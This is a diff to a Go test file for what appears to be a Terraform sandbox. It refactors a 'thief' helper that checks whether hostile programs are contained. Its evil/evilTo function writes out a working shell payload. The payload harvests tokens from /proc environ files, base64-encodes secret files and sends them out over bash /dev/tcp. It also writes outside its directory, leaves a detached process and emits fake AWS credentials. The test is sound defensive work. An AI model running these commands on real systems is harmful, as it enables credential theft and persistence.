@@ -54,6 +54,13 @@ type thief struct {
 // of another repository, and on the machine.
 func newThief(t *testing.T, args ...string) *thief {
 	t.Helper()
+	return newThiefIn(t, start, fstest.MapFS{"peek/main.tf": {Data: []byte("# Empty.\n")}, "send/main.tf": {Data: []byte("# Empty.\n")},
+		"launch/main.tf": {Data: []byte("# Empty.\n")}, "run/main.tf": {Data: []byte("# Empty.\n")}}, args...)
+}
+
+// newThiefIn is newThief with a repository of its own, in a world that start starts.
+func newThiefIn(t *testing.T, start func(testing.TB, sandbox.Config) *sandbox.World, files fstest.MapFS, args ...string) *thief {
+	t.Helper()
 	found := parts(t, toolchain.Terraform, toolchain.Git, toolchain.Providers)
 	th := &thief{outside: t.TempDir(), canaries: map[string]string{}}
 	th.url = newServer(t, func(w http.ResponseWriter, r *http.Request) {
@@ -67,8 +74,7 @@ func newThief(t *testing.T, args ...string) *thief {
 	for _, place := range []string{"environment", "data", "neighbour", "machine"} {
 		th.canaries[place] = "canary-not-a-secret-" + place + "-" + port
 	}
-	th.world = start(t, sandbox.Config{Terraform: found.Terraform, Mirrors: found.Mirrors, Args: append(ungated(t), args...), Files: fstest.MapFS{
-		"peek/main.tf": {Data: []byte("# Empty.\n")}, "send/main.tf": {Data: []byte("# Empty.\n")}, "launch/main.tf": {Data: []byte("# Empty.\n")}, "run/main.tf": {Data: []byte("# Empty.\n")}}})
+	th.world = start(t, sandbox.Config{Terraform: found.Terraform, Mirrors: found.Mirrors, Args: append(ungated(t), args...), Files: files})
 	data := th.dataDir()
 	for file, place := range map[string]string{filepath.Join(data, "notes"): "data", filepath.Join(data, "states", "999999", "app", "terraform.tfstate"): "neighbour", filepath.Join(th.outside, "notes"): "machine"} {
 		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
@@ -148,14 +154,17 @@ func (th *thief) send(address string) string {
 }
 
 // evil is a program that steals, writes where it has no business, and stays.
-func (th *thief) evil() string {
+func (th *thief) evil() string { return th.evilTo(th.url, th.outside) }
+
+// evilTo is evil that sends to a server and writes in a directory.
+func (th *thief) evilTo(url, dir string) string {
 	return fmt.Sprintf(`token=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a -m1 %[5]s= | base64 -w0)
 files=$(cat %[1]s 2>/dev/null | base64 -w0)
 bash -c "exec 3<>/dev/tcp/%[2]s; printf 'GET /?token=$token&files=$files HTTP/1.0\r\n\r\n' >&3; cat <&3" >/dev/null 2>&1
 echo "$token" >%[3]s/mark
 (setsid sleep %[4]s >/dev/null 2>&1 &)
 echo '{"Version": 1, "AccessKeyId": "stolen", "SecretAccessKey": "stolen"}'
-`, strings.Join(th.secrets()[:3], " "), strings.Replace(strings.TrimPrefix(th.url, "http://"), ":", "/", 1), th.outside, th.marker, th.variable)
+`, strings.Join(th.secrets()[:3], " "), strings.Replace(strings.TrimPrefix(url, "http://"), ":", "/", 1), dir, th.marker, th.variable)
 }
 
 // launch has the AWS provider, which is allowed everywhere, run a program for credentials.
